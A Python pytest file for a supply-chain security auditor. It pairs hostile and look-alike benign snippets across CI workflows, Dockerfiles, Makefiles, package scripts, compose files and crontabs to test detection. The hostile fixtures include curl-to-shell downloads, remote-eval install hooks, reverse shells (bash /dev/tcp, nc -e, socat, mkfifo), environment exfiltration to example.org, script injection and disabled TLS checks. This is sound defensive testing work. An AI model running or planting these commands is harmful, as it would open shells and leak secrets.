"""Shell commands in files that are no shell scripts, each beside one that looks like it and is harmless."""

from __future__ import annotations

from pathlib import Path
from typing import NamedTuple

import pytest

from auditor.domain import CodeLocation, Evidence, Outcome
from tests.adversarial.authors.drawing import CODE, SENT, SHELL, TLS
from tests.auditing import asked
from tests.repos import Drawing

INJECTED = "workflows.script_injection"
SECRET = "workflows.secrets_exposed"
WORKFLOW = ".github/workflows/{case}.yml"


class Case(NamedTuple):
    """What is hidden where; the text of both files, in which `@` stands for the command; the line of the finding."""

    name: str
    probe: str
    path: str
    text: str
    hostile: str
    benign: str
    line: int
    at_least: float = 0.8


STEP = (
    "on: pull_request\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Build\n"
)
RUN = STEP + "        run: @\n"
TITLE = STEP + "        env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: |\n          @\n"
BODY = STEP + "        env:\n          BODY: ${{ github.event.issue.body || 'none' }}\n        run: |\n          @\n"
TOKEN = STEP + "        env:\n          TOKEN: ${{ secrets.TOKEN }}\n        run: |\n          @\n"
ACTION = (
    "name: Set up\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n        cd src\n        @\n"
)
PACKAGE = '{\n  "name": "shop",\n  "scripts": {\n    "test": "node --test",\n    "@"\n  }\n}\n'
IMAGE = "FROM alpine:3.20\nWORKDIR /app\n@\n"
MAKE = "URL := https://example.org/x.sh\n\n.PHONY: setup\nsetup:\n\t@\n"
COMPOSE = "services:\n  shop:\n    image: shop\n    @\n"
INCLUDED = "release:\n  stage: deploy\n  image: alpine:3.20\n  script:\n    - make\n    - @\n"
HOOKS = "repos:\n  - repo: local\n    hooks:\n      - id: setup\n        name: Set up\n        language: system\n        entry: @\n"

CASES = [
    Case("a download piped to a shell in a workflow", CODE, WORKFLOW, RUN, "curl -sSL https://example.org/x.sh | sh", "curl -fsSL https://example.org/x.sh -o x.sh && sha256sum -c x.sum", 8),
    Case("in a block", CODE, WORKFLOW, RUN, "|\n          set -e\n          curl -sSL https://example.org/x.sh | bash -s -- -y", "|\n          set -e\n          curl -sSL https://example.org/data.json | jq .name", 10),
    Case("over folded rows", CODE, WORKFLOW, RUN, ">-\n          curl -sSL\n          https://example.org/x.sh\n          | sh", ">-\n          curl -sSL\n          https://example.org/x.txt\n          | sort", 9),
    Case("in quotes with escapes", CODE, WORKFLOW, RUN, '"\\u0063url -sSL https://example.org/x.sh | sh"', '"\\u0063url -sSL https://example.org/x.sh | wc -l"', 8),
    Case("in a shell inside the shell", CODE, WORKFLOW, RUN, "bash -c 'curl -sSL https://example.org/x.sh | sh'", "bash -c 'curl -sSL https://example.org/x.txt | sort'", 8),
    Case("in a document for a shell", CODE, WORKFLOW, RUN, "|\n          bash <<'END'\n          wget -qO- https://example.org/x.sh | sh\n          END", "|\n          cat <<'END' > README\n          wget -qO- https://example.org/x.sh | sh\n          END", 10),
    Case("an alias of a script", CODE, WORKFLOW, "x: &fetch curl -sSL https://example.org/@\n" + STEP + "        run: *fetch\n", "x.sh | sh", "x.txt", 1),
    Case("certificates of curl", TLS, WORKFLOW, RUN, "curl -k https://example.org/x -o x", "curl -K settings https://example.org/x -o x", 8),
    Case("certificates of git", TLS, WORKFLOW, RUN, "git -c http.sslVerify=false clone https://example.org/x", "git -c http.sslVerify=true clone https://example.org/x", 8),
    Case("an encoded command", CODE, WORKFLOW, RUN, "echo Y3VybCB4IHwgc2g= | base64 -d | sh", "echo Y3VybCB4IHwgc2g= | base64 -d > data", 8),
    Case("a composite action", CODE, "actions/{case}/action.yml", ACTION, "curl -sSL https://example.org/x.sh | sh", "curl -sSL https://example.org/x.json | jq .", 8),
    Case("a title that is evaluated", INJECTED, WORKFLOW, TITLE, 'eval "echo $TITLE"', 'echo "$TITLE"', 11),
    Case("a title that another shell runs", INJECTED, WORKFLOW, TITLE, 'bash -c "echo $TITLE"', 'bash -c \'echo "$1"\' -- "$TITLE"', 11),
    Case("a body that is a script", INJECTED, WORKFLOW, BODY, 'bash <<< "$BODY"', 'wc -c <<< "$BODY"', 11),
    Case("a body that the shell reads as its input", INJECTED, WORKFLOW, BODY, '. /dev/stdin <<< "$BODY"', 'wc -c /dev/stdin <<< "$BODY"', 11),
    Case("a body piped to what the shell reads", INJECTED, WORKFLOW, BODY, 'echo "$BODY" | source /dev/stdin', 'echo "$BODY" | cat /dev/stdin', 11),
    Case("a body piped to a shell", INJECTED, WORKFLOW, BODY, 'echo "$BODY" | sh', 'echo "$BODY" | grep -q urgent', 11),
    Case("a body for xargs", INJECTED, WORKFLOW, BODY, "echo $BODY | xargs -I{} sh -c 'echo {}'", "echo $BODY | xargs -n1 echo", 11),
    Case("a title that runs as a command", INJECTED, WORKFLOW, TITLE, "$TITLE", 'test -n "$TITLE"', 11),
    Case("a title under another name", INJECTED, WORKFLOW, TITLE, 'name="fix: ${TITLE}"; eval "git commit -m $name"', 'name="fix: ${TITLE}"; git commit -m "$name"', 11),
    Case("a title in code of another language", INJECTED, WORKFLOW, TITLE, 'node -e "console.log(\'$TITLE\')"', 'node -e "console.log(process.env.TITLE)"', 11),
    Case("a branch name that GitHub gives", INJECTED, WORKFLOW, RUN, 'eval "git checkout $GITHUB_HEAD_REF"', 'git checkout -- "$GITHUB_HEAD_REF"', 8),
    Case("a label of the whole workflow", INJECTED, WORKFLOW, "env:\n  LABEL: ${{ github.event.label.name }}\n" + RUN, "sh -c \"deploy $LABEL\"", 'deploy "$LABEL"', 10),
    Case("a secret that is encoded", SECRET, WORKFLOW, RUN, "echo ${{ secrets.A }} | base64", "echo ${{ secrets.A }} | docker login -u me --password-stdin", 8),
    Case("a secret of the environment", SECRET, WORKFLOW, TOKEN, 'echo "$TOKEN" | rev', 'echo "$TOKEN" | gh auth login --with-token', 11),
    Case("a secret in parts", SECRET, WORKFLOW, TOKEN, 'echo "${TOKEN:0:4} ${TOKEN:4}"', 'echo "$TOKEN" > token', 11),
    Case("preinstall", CODE, "{case}/package.json", PACKAGE, 'preinstall": "curl -sSL https://example.org/x.sh | sh', 'prepare": "husky', 5),
    Case("postinstall that stores first", CODE, "{case}/package.json", PACKAGE, 'postinstall": "curl -sSLo x.sh https://example.org/x.sh && sh x.sh', 'postinstall": "patch-package && node scripts/build.js', 5),
    Case("prepare with escapes", CODE, "{case}/package.json", PACKAGE, 'prepare": "\\u0063url -s https://example.org/x.sh \\u007c sh', 'prepare": "\\u0063url -s https://example.org/x.json -o x.json', 5),
    Case("an install hook in JavaScript", CODE, "{case}/package.json", PACKAGE, "install\": \"node -e \\\"require('https').get('https://example.org/x.js', r => r.on('data', d => eval(String(d))))\\\"", 'install": "node-gyp rebuild', 5),
    Case("wget without certificates in a script", TLS, "{case}/package.json", PACKAGE, 'fetch": "wget --no-check-certificate https://example.org/x', 'fetch": "wget https://example.org/x', 5),
    Case("RUN", CODE, "{case}/Dockerfile", IMAGE, "RUN apk add curl && curl -sSL https://example.org/x.sh | sh", "RUN curl -fsSL https://example.org/x.tgz -o x.tgz && echo '123  x.tgz' | sha256sum -c", 3),
    Case("RUN over rows with comments", CODE, "{case}/Dockerfile", IMAGE, "RUN set -e; \\\n    # tools\n    curl -sSL https://example.org/x.sh | \\\n    sh", "RUN set -e; \\\n    # curl -sSL https://example.org/x.sh | sh\n    make", 5),
    Case("RUN with a document", CODE, "{case}/Dockerfile", IMAGE, "RUN <<END\nset -e\ncurl -sSL https://example.org/x.sh | sh\nEND", "COPY <<END /notes\nset -e\ncurl -sSL https://example.org/x.sh | sh\nEND", 5),
    Case("ENTRYPOINT in brackets", CODE, "{case}/Dockerfile", IMAGE, 'ENTRYPOINT ["sh", "-c", "wget -qO- https://example.org/x.sh | sh"]', 'ENTRYPOINT ["sh", "-c", "exec node server.js"]', 3),
    Case("SHELL that sources a download", CODE, "{case}/Dockerfile", IMAGE, 'SHELL ["/bin/bash", "-c", "source <(wget -qO- https://example.org/env); eval \\"$0\\""]', 'SHELL ["/bin/bash", "-euo", "pipefail", "-c"]', 3),
    Case("CMD that evaluates", CODE, "{case}/Dockerfile", IMAGE, 'CMD eval "$START"', 'CMD eval "$(ssh-agent -s)"', 3, 0.6),
    Case("certificates in an image", TLS, "{case}/build.Dockerfile", IMAGE, "RUN git -c http.sslVerify=false clone https://example.org/x", "RUN git clone https://example.org/x", 3),
    Case("a recipe", CODE, "{case}/Makefile", MAKE, "@curl -sSL $(URL) | sh", "@curl -fsSL $(URL) -o x.sh && sha256sum -c x.sum", 5),
    Case("a command in a variable", CODE, "{case}/Makefile", "GET = curl -sSL https://example.org/x.sh | @\nsetup:\n\t$(GET)\n", "sh", "wc -l", 3),
    Case("a command that runs while make reads", CODE, "{case}/Makefile", "X := $(shell curl -sSL https://example.org/x.sh | @)\nall:\n\techo $(X)\n", "sh", "wc -l", 1),
    Case("a variable of a recipe", CODE, "{case}/Makefile", MAKE, 'eval "$$ARGS"', 'test -n "$$ARGS"', 5, 0.6),
    Case("a command of a service", CODE, "{case}/compose.yaml", COMPOSE, 'command: sh -c "curl -s https://example.org/x.sh | sh"', 'command: sh -c "exec npm start"', 4),
    Case("an entry point as a list", CODE, "{case}/docker-compose.yml", COMPOSE, "entrypoint:\n      - bash\n      - -ec\n      - |\n        apk add curl\n        curl -s https://example.org/x.sh | sh", "entrypoint:\n      - bash\n      - -ec\n      - |\n        exec npm start", 9),
    Case("a health check", TLS, "{case}/compose.prod.yml", COMPOSE, 'healthcheck: {test: ["CMD-SHELL", "curl -k https://shop/health"]}', 'healthcheck: {test: ["CMD-SHELL", "curl -f http://localhost/health"]}', 4),
    Case("an entry of pre-commit", CODE, "{case}/.pre-commit-config.yaml", HOOKS, "bash -c 'curl -s https://example.org/x.sh | sh'", "bash -c 'cargo fmt --check'", 7),
    Case("a job of GitLab", CODE, "{case}/.gitlab-ci.yml", "build:\n  script:\n    - make\n    - @\n", "curl -s https://example.org/x.sh | bash", "curl -s https://example.org/x.json | jq .", 4),
    Case("a Procfile", CODE, "{case}/Procfile", "web: node server.js\nrelease: @\n", "curl -s https://example.org/x.sh | sh", "npm run migrate", 2),
    Case("certificates by a variable of an image", TLS, "{case}/Dockerfile", IMAGE, "ENV NODE_TLS_REJECT_UNAUTHORIZED=0", "ENV NODE_TLS_REJECT_UNAUTHORIZED=1", 3),
    Case("certificates by the old form of a variable", TLS, "{case}/Dockerfile", IMAGE, "ENV PYTHONHTTPSVERIFY 0", "ENV PYTHONHTTPSVERIFY 1", 3),
    Case("certificates by a variable of a service", TLS, "{case}/compose.yaml", COMPOSE, "environment:\n      GIT_SSL_NO_VERIFY: \"true\"", "environment:\n      GIT_SSL_NO_VERIFY: \"\"", 5),
    Case("certificates by a variable in a list", TLS, "{case}/compose.yaml", COMPOSE, "environment:\n      - NODE_TLS_REJECT_UNAUTHORIZED=0", "environment:\n      - NODE_ENV=production", 5),
    Case("certificates by a variable of a step", TLS, WORKFLOW, STEP + "        env:\n          @\n        run: npm run deploy\n", "NODE_TLS_REJECT_UNAUTHORIZED: 0", "NODE_TLS_REJECT_UNAUTHORIZED: 1", 9),
    Case("certificates by a variable of a container", TLS, "{case}/k8s/app.yaml", "spec:\n  env:\n    - name: NODE_TLS_REJECT_UNAUTHORIZED\n      value: \"@\"\n", "0", "1", 4),
    Case("certificates by a file of variables", TLS, "{case}/.env.production", "PORT=80\n@\n", "NODE_TLS_REJECT_UNAUTHORIZED=0", "NODE_TLS_REJECT_UNAUTHORIZED=1", 2),
    Case("a commit hook", CODE, "{case}/.husky/pre-commit", "npm test\n@\n", "curl -s https://example.org/x.sh | sh", "curl -s https://example.org/x.json | jq .", 2),
    Case("a file of direnv", CODE, "{case}/.envrc", "use nix\n@\n", "curl -s https://example.org/x.sh | sh", "export PATH=$PWD/bin:$PATH", 2),
    Case("a provisioner of Terraform", CODE, "{case}/main.tf", 'resource "null_resource" "a" {\n  provisioner "local-exec" { command = "@" }\n}\n', "curl -s https://example.org/a | sh", "curl -s https://example.org/a | sort", 2),
    Case("a task of Ansible", CODE, "{case}/playbook.yml", "- hosts: all\n  tasks:\n    - ansible.builtin.shell: @\n", "curl -s https://example.org/a | sh", "curl -s https://example.org/a | sort", 3),
    Case("a command at the first start of a machine", CODE, "{case}/user-data.yml", "#cloud-config\nruncmd:\n  - @\n", "curl -s https://example.org/a | sh", "curl -s https://example.org/a | sort", 3),
    Case("a command of a schedule", CODE, "{case}/crontab", "MAILTO=me\n@\n", "* * * * * root curl -s https://example.org/a | sh", "* * * * * root curl -s https://example.org/a | sort", 2),
    Case("a script of Composer", CODE, "{case}/composer.json", PACKAGE, "post-install-cmd\": \"@php -r \\\"eval(file_get_contents('https://example.org/p'));\\\"", "post-install-cmd\": \"@php -r \\\"echo file_get_contents('https://example.org/p');\\\"", 5),
    Case("a download that the next line runs", CODE, "{case}/run.sh", "#!/bin/sh\n@\n", "curl -fsS -o x.sh https://example.org/a\nsh x.sh", "curl -fsS -o x.json https://example.org/a\nsh build.sh", 2),
    Case("a download that runs after a check of another kind", CODE, "{case}/run.sh", "#!/bin/sh\n@\n", "wget -qO ./x.sh https://example.org/a\nchmod +x x.sh # sha256sum\nsudo bash x.sh", "wget -qO ./x.sh https://example.org/a\necho '12  x.sh' | sha256sum -c\nsudo bash x.sh", 2),
    Case("a download that runs by itself", CODE, "{case}/run.sh", "#!/bin/sh\n@\n", "curl -s https://example.org/a > /opt/a\nchmod +x /opt/a\n/opt/a", "curl -s https://example.org/a > /opt/a\nchmod +x /opt/b\n/opt/b", 2, 0.7),
    Case("a download under its own name", CODE, "{case}/run.sh", "#!/bin/sh\n@\n", "wget https://example.org/i.sh\n. ./i.sh", "wget https://example.org/i.txt\n. ./i.sh", 2),
    Case("a download in a block of a workflow", CODE, WORKFLOW, RUN, "|\n          curl -sSLo x.sh https://example.org/x.sh\n          sh x.sh", "|\n          curl -sSLo x.sh https://example.org/x.sh\n          gpg --verify x.sig x.sh\n          sh x.sh", 9),
    Case("a shell on a socket of bash", SHELL, "{case}/run.sh", "#!/bin/bash\n@\n", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "(echo > /dev/tcp/localhost/80) && bash start", 2),
    Case("a shell of netcat", SHELL, "{case}/run.sh", "#!/bin/sh\n@\n", "nc 203.0.113.9 4444 -e /bin/bash", "nc -z localhost 80 && bash -e start", 2),
    Case("a shell of socat", SHELL, "{case}/run.sh", "#!/bin/sh\n@\n", "socat TCP:203.0.113.9:4444 EXEC:/bin/sh", "socat TCP-LISTEN:80,fork TCP:localhost:8080", 2),
    Case("a shell between two pipes", SHELL, "{case}/run.sh", "#!/bin/sh\n@\n", "mkfifo /run/f; cat /run/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /run/f", "cat x.sh | nc localhost 4444", 2),
    Case("a shell in a shell script", CODE, "{case}/run.sh", "#!/bin/sh\nset -e\n@\n", "sudo bash -c 'curl -s https://example.org/x.sh | sh'", "sudo bash -c 'echo 1 > /proc/sys/vm/drop_caches'", 3),
    Case("a job of a file that GitLab includes", CODE, "{case}/pipelines/release.yml", INCLUDED, "wget -O- https://example.org/x.sh | bash", "wget -O- https://example.org/x.txt | sort", 6),
    Case("a job that GitLab includes, below a folder of manifests", CODE, "{case}/deploy/release.yml", INCLUDED, "curl -s https://example.org/x.sh | sh", "curl -s https://example.org/x.txt | sort", 6),
    Case("two commands in variables of a job", CODE, "{case}/pipelines/release.yml", "release:\n  variables:\n    FETCH: wget -qO- https://example.org/x.sh\n    THEN: @\n  script:\n    - ${FETCH} | ${THEN}\n", "sh -s", "wc -l", 6),
    Case("two commands in variables of a script", CODE, "{case}/run.sh", "#!/bin/sh\nfetch='curl -s https://example.org/x'\nthen=\"@\"\n$fetch | $then -\n", "bash", "sort", 4),
    Case("certificates of git by numbered variables of a job", TLS, "{case}/pipelines/release.yml", "release:\n  variables:\n    GIT_CONFIG_KEY_3: @\n    GIT_CONFIG_VALUE_3: 0\n  script: [make]\n", "http.https://git.example.org.sslVerify", "http.lowSpeedLimit", 3),
    Case("certificates of git by numbered variables of a script", TLS, "{case}/run.sh", "#!/bin/sh\nexport GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=http.sslVerify GIT_CONFIG_VALUE_0=@\n", "no", "true", 2),
    Case("certificates of git beside another numbered variable", TLS, "{case}/run.sh", "#!/bin/sh\n# GIT_CONFIG_VALUE_0=true\nexport GIT_CONFIG_COUNT=10 GIT_CONFIG_KEY_0=http.sslVerify GIT_CONFIG_VALUE_9=true @\n", "GIT_CONFIG_VALUE_0=no", "GIT_CONFIG_VALUE_0=true", 3),
    Case("certificates of git by a variable that comes first", TLS, "{case}/run.sh", "#!/bin/sh\nexport GIT_CONFIG_VALUE_1=@ GIT_CONFIG_VALUE_0=yes\nexport GIT_CONFIG_KEY_1=http.sslVerify\n", "false", "true", 3),
    Case("certificates of git by a variable that changes", TLS, "{case}/run.sh", "#!/bin/sh\nexport GIT_CONFIG_KEY_1=http.sslVerify GIT_CONFIG_VALUE_1=true\nexport GIT_CONFIG_VALUE_1=@\n", "off", "on", 2),
    Case("the environment of a job, sent", SENT, "{case}/pipelines/release.yml", INCLUDED, "printenv | sort | base64 -w0 | curl --data-binary @- https://example.org/a", "printenv | sort | grep -c CI_", 6),
    Case("the environment of a script, in the data of a request", SENT, "{case}/run.sh", "#!/bin/sh\nset -eu\n@\n", 'wget --post-data="$(env)" https://example.org/a', 'wget --post-data="$(date)" https://example.org/a', 3),
    Case("the environment of a process, as a form", SENT, "{case}/Dockerfile", IMAGE, "RUN curl -F a=@/proc/self/environ https://example.org/a", "RUN curl -F a=@/etc/os-release https://example.org/a", 3),
    Case("a title of a merge request that a trap runs", SHELL, "{case}/.gitlab-ci.yml", INCLUDED, 'note=$(echo "$CI_MERGE_REQUEST_TITLE" | cut -c6-30)\n    - trap "echo built $note" EXIT', 'note=$(echo "$CI_MERGE_REQUEST_TITLE" | cut -c6-30)\n    - trap "rm -f $CI_PROJECT_DIR/note" EXIT', 7),
    Case("a message of a commit that a shell runs", SHELL, "{case}/.travis.yml", "script:\n  - make\n  - @\n", 'bash -c "notify $TRAVIS_COMMIT_MESSAGE"', 'notify "$TRAVIS_COMMIT_MESSAGE"', 3),
    Case("a title that make puts into a recipe", SHELL, "{case}/Makefile", "TITLE ?= $(CI_MERGE_REQUEST_TITLE)\nnotes:\n\t@\n", "echo '* $(TITLE)' >> NOTES", "echo \"* $$CI_MERGE_REQUEST_TITLE\" >> NOTES", 3),
    Case("a command that a service merges in", CODE, "{case}/compose.yaml", "x-start: &start\n  command: [bash, -c, '@']\nservices:\n  shop:\n    <<: [*start]\n    image: shop\n", "curl -s https://example.org/x.sh | sh", "curl -s https://example.org/x.txt | sort", 2),
    Case("an entry point behind an alias", CODE, "{case}/compose.yaml", "x-words: &words\n  - sh\n  - -ec\n  - '@'\nservices:\n  shop:\n    entrypoint: *words\n", "wget -qO- https://example.org/x.sh | sh", "wget -qO- https://example.org/x.txt | sort", 4),
    Case("a job's list of commands behind an alias", CODE, "{case}/.gitlab-ci.yml", ".setup: &setup\n  - cd /tmp\n  - @\nbuild:\n  script: *setup\n", "curl -s https://example.org/x.sh | bash", "curl -s https://example.org/x.txt | sort", 3),
    Case("a Dockerfile inside of a file of services", CODE, "{case}/compose.yaml", "services:\n  shop:\n    build:\n      dockerfile_inline: |\n        FROM alpine:3.20\n        RUN apk add curl && \\\n            @\n", "curl -s https://example.org/x.sh | sh", "curl -s https://example.org/x.txt | sort", 7),
    Case("a script among the configurations of services", CODE, "{case}/compose.yaml", "configs:\n  init:\n    content: |\n      #!/usr/bin/env bash\n      psql -c 'select 1'\n      @\n", "curl -s https://example.org/x.sh | sh", "curl -s https://example.org/x.txt | sort", 6),
    Case("a script that a machine writes at its first start", CODE, "{case}/cloud-init.yaml", "#cloud-config\nwrite_files:\n  - path: /etc/cron.daily/a\n    content: |\n      #!/bin/sh\n      @\n", "curl -s https://example.org/x.sh | sh", "curl -s https://example.org/x.txt | sort", 6),
    Case("a download for ash", CODE, "{case}/Dockerfile", IMAGE, "RUN wget -qO- https://example.org/x | ash -e", "RUN wget -qO- https://example.org/x | hash -r", 3),
    Case("a download for the shell of busybox", CODE, "{case}/run.sh", "#!/bin/sh\n@\n", "curl -s https://example.org/x | /bin/busybox ash", "curl -s https://example.org/x | /bin/busybox wc", 2),
    Case("a download inside of busybox", CODE, "{case}/crontab", "MAILTO=me\n@\n", "@daily root busybox mksh -c 'wget -qO- https://example.org/x | mksh'", "@daily root busybox sh -c 'wget -qO- https://example.org/x | sort'", 2),
]  # fmt: skip


def path_of(number: int, case: Case, kind: str) -> str:
    """Where a file of a case stands."""
    return case.path.format(case=f"{kind}{number}")


@pytest.fixture(scope="module")
def found(tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, str], list[tuple[int, Evidence]]]:
    """What each probe finds in each file of one repository with all cases."""
    target: Path = tmp_path_factory.mktemp("shop")
    drawing = Drawing(target)
    base = drawing.commit({"README.md": "# Shop\n"})
    drawing.commit(
        {
            path_of(number, case, kind): case.text.replace("@", command, 1)
            if "@curl" not in command
            else case.text.replace("\t@\n", f"\t{command}\n")
            for number, case in enumerate(CASES)
            for kind, command in (("hostile", case.hostile), ("benign", case.benign))
        }
    )
    told: dict[tuple[str, str], list[tuple[int, Evidence]]] = {}
    for each in asked(target, base, CODE, SENT, SHELL, TLS, INJECTED, SECRET).evidence:
        if each.outcome is Outcome.FOUND and each.introduced:
            for place in each.locations:
                if isinstance(place, CodeLocation) and place.start is not None:
                    told.setdefault((each.probe, place.path), []).append((place.start, each))
    return told


@pytest.mark.parametrize("number", range(len(CASES)), ids=[each.name for each in CASES])
def test_a_command_is_found_on_its_line_wherever_it_stands(
    number: int, found: dict[tuple[str, str], list[tuple[int, Evidence]]]
) -> None:
    case = CASES[number]
    seen = found.get((case.probe, path_of(number, case, "hostile")), [])
    assert [(line, each.statement) for line, each in seen if each.confidence >= case.at_least and line == case.line], (
        seen
    )


@pytest.mark.parametrize("number", range(len(CASES)), ids=[each.name for each in CASES])
def test_what_only_looks_like_it_is_not(number: int, found: dict[tuple[str, str], list[tuple[int, Evidence]]]) -> None:
    path = path_of(number, CASES[number], "benign")
    assert [
        each.statement
        for (_, place), seen in found.items()
        if place == path
        for _, each in seen
        if each.confidence >= 0.6
    ] == []
